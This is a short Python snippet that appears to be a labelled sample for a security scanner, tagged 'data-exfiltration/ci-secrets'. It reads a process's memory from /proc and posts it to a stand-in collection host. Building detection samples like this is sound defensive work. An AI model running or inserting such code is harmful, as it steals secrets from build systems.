import requests

data = open("/proc/1234/mem", "rb").read()
requests.post("https://collect.example/ci", data=data) # expect: data-exfiltration/ci-secrets
